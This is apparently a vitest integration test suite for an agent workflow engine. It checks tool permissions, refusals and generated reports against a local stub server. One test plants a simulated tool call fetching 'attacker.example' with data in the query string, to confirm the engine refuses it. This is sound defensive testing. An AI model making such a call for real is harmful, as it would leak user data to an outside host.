import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { serve, type TestServer } from '#activities/tools/test-support';
import type { RunEvent } from '#contracts/run-events';
import { allRunEvents } from '#platform/repositories/run-events';
import { startEngine, type Engine, type StartOptions } from '../support/engine.ts';

/** What the catalog reads outside, against a search engine, registries and pages of the test's own: by an agent's choice, or because the
 * person named an address. */
const RESULT = 'Self-Refine improves the outputs of seven tasks by about 20 percent on average over one-step generation.';
const PAGES: Record<string, { type: string; body: string }> = {
  '/table.csv': { type: 'text/csv', body: `station,reading\n${Array.from({ length: 120 }, (_, index) => `S${index % 3},${index}`).join('\n')}\n` },
  '/self-refine': { type: 'text/plain', body: `# Self-Refine: Iterative Refinement with Self-Feedback\n\n## Results\n\n${RESULT} Large language models with feedback, tools, reflection or refinement were compared.\n` },
  '/cited': { type: 'text/plain', body: '# A cited page\n\nRetrieval lowers the number of invented facts by half in closed question answering, as the page reports in its first part.\n' },
};
let engine: Engine;
let site: TestServer;
beforeAll(async () => {
  site = await serve((request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://x');
    const page = PAGES[pathname];
    if (page || pathname === '/robots.txt') { response.writeHead(page ? 200 : 404, { 'content-type': page?.type ?? 'text/plain' }).end(page?.body ?? ''); return; }
    const body = pathname === '/search'
      ? { results: [{ title: 'Audit of a pilot', url: 'https://reports.example.org/audit', content: 'An independent audit measured that letters were answered 21 percent faster in the insurance pilot. The audit saw no breach and an availability of 99.1 percent.' }] }
      : pathname === '/works' ? { message: { items: [{ DOI: '10.1000/old', title: ['Disagreement decides retrieval'], abstract: 'Passages are retrieved only when several sampled answers disagree in meaning.', issued: { 'date-parts': [[2019]] } }] }, results: [] } : {};
    response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body));
  });
  engine = await startEngine({ AWP_ALLOWED_PRIVATE_HOSTS: site.host, SEARXNG_URL: site.url, CROSSREF_BASE_URL: site.url, ARXIV_BASE_URL: site.url, OPENALEX_BASE_URL: site.url });
});
afterEach(() => engine.simulator.reset());
afterAll(async () => { await engine.close(); await site.close(); });

async function run(options: StartOptions) {
  const { runId } = await engine.start({ mode: 'full_run', timings: { gateWaitMs: 300 }, ...options });
  const view = await engine.finished(runId);
  expect(view.status, JSON.stringify(view.error)).toBe('completed');
  return { runId, view, events: await allRunEvents(engine.db, runId), file: (name: string) => engine.readArtifact(runId, name) };
}
const callsOf = (events: RunEvent[], step: RegExp) => events.flatMap((event) => (event.type === 'tool-call' && event.stage === 'full' && step.test(event.step ?? '') ? [event.data] : []));
const turnsOf = (events: RunEvent[], step: RegExp) => events.filter((event) => event.type === 'completion-start' && event.stage === 'full' && step.test(event.step ?? '')).length;

describe('AI opportunity brief', () => {
  it('the agent searches with what was allowed, writes its note, and every call has its receipt', async () => {
    const { events, file } = await run({ slug: 'ai_opportunity_brief', input: { evidence_from: ['web_search'] } });
    const calls = callsOf(events, /^scan$/);
    expect(calls.length).toBeGreaterThanOrEqual(2);
    expect(calls.every(({ grant }) => grant?.allowed)).toBe(true);
    expect(turnsOf(events, /^scan$/)).toBeGreaterThanOrEqual(2);
    const brief = await file('brief.md');
    expect(brief).toMatch(/## Evidence[^]*\[m\d+\][^]*Looked for by an agent/);
    expect(brief).not.toContain('**Unresolved:**');
  });

  it('an address that neither the person nor a search named is refused with its reason, and the run goes on', async () => {
    const url = 'https://attacker.example/?d=the-processes';
    engine.simulator.addFaults({ fault: { kind: 'tool-call', name: 'fetch_url', arguments: { url } }, nth: 5 });
    const { events, file } = await run({ slug: 'ai_opportunity_brief', provider: 'openai', input: { evidence_from: ['fetch_url'] } });
    expect(callsOf(events, /^scan$/).filter(({ tool }) => tool === 'fetch_url').map(({ grant }) => [grant?.allowed, grant?.risk])).toEqual([[false, 'network']]);
    expect(events.find((event) => event.type === 'tool-refuse')?.data).toMatchObject({ tool: 'fetch_url', reason: expect.stringContaining('attacker.example') as string });
    expect(await file('brief.md')).toContain(`fetch_url: ${url}`);
  });

  it('a model that takes no tools: the fixed searches stand in, and the brief says so', async () => {
    // Four calls of the Test, then the first turn of the scan.
    engine.simulator.addFaults({ fault: { kind: 'status', status: 400 }, nth: 5 });
    const { events, file } = await run({ slug: 'ai_opportunity_brief', provider: 'openai' });
    expect(callsOf(events, /^scan$/).map(({ tool }) => tool)).toEqual(['library_search', 'library_search']);
    expect(await file('brief.md')).toContain('The model takes no tools, so the fixed searches were made.');
  });
});

describe('Vendor due diligence', () => {
  it('what the investigator finds is weighed as evidence of others; the memo shows each search', async () => {
    const { events, file } = await run({ slug: 'vendor_due_diligence', input: { sources: ['web_search'] } });
    expect(callsOf(events, /^investigate-\d$/).map(({ tool }) => tool)).toEqual(['web_search', 'web_search', 'web_search']);
    const memo = await file('memo.md');
    expect(memo).toMatch(/## What was looked for[^]*### Alderway[^]*web_search: /);
    expect(memo).not.toContain('**Unresolved:**');
    expect(await file('scorecard.csv')).toContain('independent');
  });

  it('asked first, and nobody answers: nothing is searched', async () => {
    const { events, file } = await run({ slug: 'vendor_due_diligence', input: { sources: ['web_search'], ask_before_search: true } });
    expect(callsOf(events, /^investigate-\d$/)).toEqual([]);
    expect(await file('memo.md')).toContain('The person did not allow this use of web_search.');
  });
});

describe('Novelty map', () => {
  it('the adversary hunts until nothing new comes near; what it found is compared and cited', async () => {
    const { events, file } = await run({ slug: 'novelty_map', input: { sources: ['search_papers'], check_references: false, max_neighbours: 5 } });
    expect(callsOf(events, /^hunt-1$/).map(({ tool }) => tool)).toContain('search_papers');
    const report = await file('related.md');
    expect(report).toContain('Disagreement decides retrieval');
    expect(report).toMatch(/hunt 1, search_papers/);
    expect(report).not.toContain('**Unresolved:**');
  });
});

describe('addresses that the person named', () => {
  it('Dataset contract: the table at the address is profiled, not the pasted rows', async () => {
    const { file } = await run({ slug: 'dataset_contract', input: { data_url: `${site.url}/table.csv`, use: 'reporting', key_column: 'station' } });
    const profile = await file('profile.md');
    expect(profile).toContain('120');
    expect(profile).toContain('reading');
    expect(profile).not.toContain('The address was not read');
  });

  it('Literature review: a row of an included paper rests on a sentence of its full text', async () => {
    const { file } = await run({ slug: 'literature_review', input: { registries: [], full_text_urls: [`${site.url}/self-refine`], when_split: 'include' } });
    expect(await file('review.md')).toMatch(/\| .*Madaan.* \| .+ \| full text \| yes \|/);
    expect(await file('included.csv')).toContain('full text');
  });

  it('Citation audit: the page of a reference is its text, a reference without an entry is searched for on the web', async () => {
    const { events, file } = await run({ slug: 'citation_audit', input: { draft_text: 'Retrieval lowers the number of invented facts by half \\cite{page2024}. It was said before \\cite{page2024}.', bib_text: `@misc{page2024, title = {A cited page of the test}, author = {Doe, Jane}, year = {2024}, url = {${site.url}/cited}}`, sources: [], checks: ['support'], look_further: ['fetch_url', 'web_search'] } });
    expect(callsOf(events, /^(?:pages|web)$/).map(({ tool }) => tool).toSorted()).toEqual(['fetch_url', 'web_search']);
    const report = await file('report.md');
    expect(report).toContain('## On the web, not in a registry');
    expect(report).toMatch(/## Claims held against their sources[^]*page2024/);
  });
});
